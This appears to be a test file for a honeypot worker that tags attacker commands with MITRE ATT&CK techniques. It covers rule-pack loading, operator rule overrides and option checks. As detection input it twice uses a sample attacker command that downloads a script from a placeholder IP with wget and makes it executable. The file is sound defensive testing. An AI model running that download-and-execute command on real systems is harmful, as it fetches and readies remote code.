// Where the worker's rules come from: decnet's shipped pack by default, an operator directory
// added to it (same id overrides) or replacing it, reloads when the directory changes, and the
// running worker saying how many rules it has and from where; plus the options that choose them.
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { ConfigValidationError, EVENTS, MemoryBroker } from '@decnet/core';
import { eventually } from '@decnet/core/testing';
import { attackers, ttp_tag, type Database } from '@decnet/db';
import { countRows, insertRows, migratedScratchDatabase, tableRows } from '@decnet/db/testing';
import type { ScratchDatabase } from '@decnet/testing/postgres';
import { AttackCatalog } from '@decnet/ttp-engine';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { compileTtpOptions } from './options.js';
import { RuleSource } from './rule-source.js';
import { hostTtp, logEvent, type HostedTtp } from './test-kit.fixture.js';

const attack = AttackCatalog.curated();
const LOCAL_RULE = `rule_id: R0012
rule_version: 3
name: local_downloads
applies_to: [command]
match:
  pattern: '^fetch-tool$'
emits:
  - {tactic: TA0011, technique_id: T1105, confidence: 0.9}
`;

let dir: string | undefined;
afterEach(() => {
  if (dir) rmSync(dir, { recursive: true, force: true });
  dir = undefined;
});

describe('the rule source starts from the shipped pack', () => {
  it('loads the 64 pack rules with no directory, and never reloads', () => {
    const source = new RuleSource('', attack);
    const g = source.load();
    expect(source.dir).toBeUndefined();
    expect(g.report.rules).toHaveLength(64);
    expect(g.error).toBeUndefined();
    expect(g.description).toBe('64 rules: 64 from the decnet pack');
    expect(source.signature()).toBe(g.signature);
    const tags = g.engine.tag({
      sourceKind: 'command',
      sourceId: 's#0',
      payload: { command_text: 'uname -a; wget http://203.0.113.9/x.sh; chmod +x x.sh' },
    });
    expect([...new Set(tags.map((t) => t.techniqueId))].sort()).toEqual(['T1082', 'T1105']);
  });

  it('adds a directory (same id overrides) and notices when it changes; replace mode uses it alone', () => {
    dir = mkdtempSync(join(tmpdir(), 'ttp-rule-source-'));
    writeFileSync(join(dir, 'R0012.yaml'), LOCAL_RULE);
    const added = new RuleSource(dir, attack, 'add');
    const first = added.load();
    expect(first.report.rules).toHaveLength(64);
    expect(first.report.rules.find((r) => r.ruleId === 'R0012')?.ruleVersion).toBe(3);
    expect(first.description).toBe(`64 rules: 63 from the decnet pack, 1 from ${dir} (overriding R0012)`);
    writeFileSync(join(dir, 'L0001.yaml'), LOCAL_RULE.replace('R0012', 'L0001'));
    expect(added.signature()).not.toBe(first.signature);
    expect(added.load().report.rules).toHaveLength(65);
    const replaced = new RuleSource(dir, attack, 'replace').load();
    expect(replaced.report.rules.map((r) => r.ruleId)).toEqual(['L0001', 'R0012']);
  });

  it('keeps tagging with the pack when the directory is missing, and reports it', () => {
    const g = new RuleSource(join(tmpdir(), 'no-such-ttp-rule-dir'), attack).load();
    expect(g.report.rules).toHaveLength(64);
    expect(g.error).toMatch(/cannot read the rule directory/);
  });
});

describe('options choose the rules', () => {
  it('defaults to the pack alone, in add mode', () => {
    expect(compileTtpOptions({}, 'kafka')).toMatchObject({ rulesDir: '', rulesMode: 'add' });
    expect(
      compileTtpOptions({ DECNET_TTP_RULES_DIR: '/etc/decnet/ttp', DECNET_TTP_RULES_MODE: 'replace' }, 'kafka'),
    ).toMatchObject({ rulesMode: 'replace' });
  });

  it('refuses an unknown mode, and replace without a directory, naming the key', () => {
    expect(() => compileTtpOptions({ DECNET_TTP_RULES_MODE: 'merge' }, 'kafka')).toThrow(
      /DECNET_TTP_RULES_MODE[\s\S]*add or replace/,
    );
    expect(() => compileTtpOptions({ DECNET_TTP_RULES_MODE: 'replace' }, 'kafka')).toThrow(ConfigValidationError);
    expect(() => compileTtpOptions({ DECNET_TTP_RULES_MODE: 'replace' }, 'kafka')).toThrow(/DECNET_TTP_RULES_DIR/);
  });
});

describe('the running worker tags with the pack by default and says so', () => {
  let scratch: ScratchDatabase;
  let database: Database;
  let hosted: HostedTtp | undefined;
  beforeAll(async () => {
    ({ scratch, database } = await migratedScratchDatabase());
    await insertRows(database, attackers, [{ uuid: '11111111-1111-4111-8111-111111111111', ip: '198.51.100.7' }]);
  });
  afterAll(async () => {
    await hosted?.runner.close();
    await database.close();
    await scratch.drop();
  });

  it('reports the rule count and source in health and tags a typed command line', async () => {
    const broker = new MemoryBroker();
    hosted = await hostTtp(broker, scratch.url, { rulesDir: '', rulesMode: 'add' });
    expect(await hosted.health()).toMatchObject({
      rules: 64,
      rulesRejected: 0,
      rulesError: null,
      rulesFrom: '64 rules: 64 from the decnet pack',
    });
    await broker
      .connect('producer')
      .publish(
        EVENTS.logEvent.subject('ssh'),
        logEvent({
          event_type: 'command',
          fields: { cmd: 'uname -a; wget http://203.0.113.9/x.sh; chmod +x x.sh', sid: 's1' },
        }),
      );
    await eventually(async () => (await countRows(database, ttp_tag)) === 2, 10_000);
    const rows = (await tableRows(database, ttp_tag))
      .map((t) => ({ rule_id: t.rule_id, technique_id: t.technique_id }))
      .sort((a, b) => a.rule_id.localeCompare(b.rule_id));
    expect(rows).toEqual([
      { rule_id: 'R0012', technique_id: 'T1105' },
      { rule_id: 'R0018', technique_id: 'T1082' },
    ]);
  });
});
